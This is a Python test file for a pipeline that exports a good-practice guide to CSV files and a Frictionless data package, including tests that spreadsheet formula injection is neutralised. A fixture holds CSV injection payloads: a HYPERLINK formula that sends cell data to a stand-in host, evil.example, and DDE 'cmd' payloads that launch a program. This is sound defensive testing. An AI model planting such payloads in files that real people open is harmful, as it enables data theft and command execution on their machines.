"""The tidy exports: practices.csv, budgets.csv and metrics.csv with their Frictionless
datapackage.json, and CSV cells a spreadsheet must not run as formulas."""

import csv
import io
import json

from conftest import ROOT

from schemas import Guide

COMMITTED = ROOT / "output" / "smarty-good-practice-guide"


def committed_guide() -> Guide:
    return Guide.model_validate_json((COMMITTED / "guide.json").read_text(encoding="utf-8"))


def rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")  # UTF-8 with a BOM, for spreadsheets
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_budgets_and_metrics_are_one_row_per_value(reference):
    from pipeline.outputs.tables import budgets_csv, metrics_csv

    guide = committed_guide()
    budgets, metrics = rows(budgets_csv(guide)), rows(metrics_csv(guide))
    # the hand-checked reference lists practices in the guide's order
    ids = [p.id for p in guide.practices]
    assert [p.title for p in guide.practices] == [p["title"] for p in reference["practices"]]
    expected_budgets = [
        (pid, str(i), raw, amount, currency, role or "")
        for pid, p in zip(ids, reference["practices"]) for i, (raw, amount, currency, role) in enumerate(p["budgets"], 1)
    ]
    assert [(r["practice_id"], r["position"], r["raw"], float(r["amount"]) if r["amount"] else None,
             r["currency"] or None, r["role"]) for r in budgets] == expected_budgets
    expected_metrics = [
        # a printed '+' qualifier ('65%+') is a formula start for a spreadsheet: quoted
        (pid, str(i), m[0], m[1], {"+": "'+"}.get(m[2], m[2] or ""), m[3] if len(m) > 3 else None)
        for pid, p in zip(ids, reference["practices"]) for i, m in enumerate(p["metrics"], 1)
    ]
    assert [(r["practice_id"], r["position"], float(r["value"]) if r["value"] else None, r["unit"] or None, r["qualifier"],
             float(r["scale"]) if r["scale"] else None) for r in metrics] == expected_metrics
    gostop = next(r for r in budgets if r["practice_id"].startswith("gostop"))
    assert (gostop["raw"], gostop["amount"], gostop["currency"]) == ("9.397.732,50 EUR", "9397732.5", "EUR")
    assert (len(budgets), len(metrics)) == (26, 57)


def test_committed_output_is_a_valid_data_package():
    from frictionless import validate

    report = validate(str(COMMITTED / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert [(task.name, task.stats["rows"]) for task in report.tasks] == [("practices", 26), ("budgets", 26), ("metrics", 57)]
    package = json.loads((COMMITTED / "datapackage.json").read_text(encoding="utf-8"))
    budgets = package["resources"][1]["schema"]
    assert budgets["primaryKey"] == ["practice_id", "position"]
    assert budgets["foreignKeys"] == [{"fields": ["practice_id"], "reference": {"resource": "practices", "fields": ["id"]}}]
    assert {f["name"]: f["type"] for f in budgets["fields"]}["amount"] == "number"
    practices = rows((COMMITTED / "practices.csv").read_text(encoding="utf-8"))
    assert {(r["guide"], r["guide_sha256"]) for r in practices} == {
        ("smarty-good-practice-guide.pdf", committed_guide().source.sha256)
    }


def test_the_data_package_check_catches_a_broken_key(tmp_path):
    """The validation above can fail: a budget row naming no practice is refused."""
    from frictionless import validate

    for name in ("datapackage.json", "practices.csv", "metrics.csv"):
        (tmp_path / name).write_bytes((COMMITTED / name).read_bytes())
    budgets = (COMMITTED / "budgets.csv").read_text(encoding="utf-8")
    (tmp_path / "budgets.csv").write_text(budgets + "no-such-practice,1,5 EUR,5,EUR,,,false\n", encoding="utf-8")
    report = validate(str(tmp_path / "datapackage.json"))
    assert not report.valid
    assert report.flatten(["type"]) == [["foreign-key"]]


def hostile() -> Guide:
    guide = committed_guide()
    practice = guide.practices[1].model_copy(deep=True)
    practice.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    practice.institution = "+cmd|' /C calc'!A0"
    practice.summary = "@SUM(1+1)*cmd|' /C calc'!A0"
    practice.location.raw = "\tTab start"
    practice.budgets[0].raw = "-2+3 EUR"
    practice.budgets[0].amount = -2500.0
    practice.budgets[0].role = "=1+1"
    practice.metrics[0].raw = "-5% emissions"
    practice.metrics[0].value = -5.0
    practice.metrics[0].unit = "%"
    return guide.model_copy(update={"practices": [practice]})


def test_formulas_are_neutralised_and_numbers_stay_numbers():
    from pipeline.outputs.emit import practices_csv
    from pipeline.outputs.tables import budgets_csv, metrics_csv

    guide = hostile()
    [practice] = rows(practices_csv(guide))
    assert practice["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert practice["institution"] == "'+cmd|' /C calc'!A0"
    assert practice["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert practice["location"] == "'\tTab start"
    assert practice["number"] == "2"  # a number column is untouched
    budget = rows(budgets_csv(guide))[0]
    assert (budget["raw"], budget["amount"], budget["role"]) == ("'-2+3 EUR", "-2500", "'=1+1")
    metric = rows(metrics_csv(guide))[0]
    assert (metric["raw"], metric["value"], metric["unit"]) == ("'-5% emissions", "-5", "%")
    # no cell of a text column starts with a formula character
    for text in (practices_csv(guide), budgets_csv(guide), metrics_csv(guide)):
        for row in rows(text):
            for key, cell in row.items():
                if key not in ("amount", "value", "scale", "number", "theme_number", "position"):
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)


def test_every_country_a_location_names_is_in_practices_csv():
    from pipeline.outputs.emit import practices_csv

    guide = committed_guide()
    practice = guide.practices[0].model_copy(update={"location": guide.practices[0].location.model_copy(update={
        "raw": "Spain, Portugal and France", "country": "Spain", "country_code": "ES", "country_codes": ["ES", "PT", "FR"]})})
    [row] = rows(practices_csv(guide.model_copy(update={"practices": [practice]})))
    assert (row["location"], row["country_code"], row["country_codes"]) == ("Spain, Portugal and France", "ES", "ES | PT | FR")
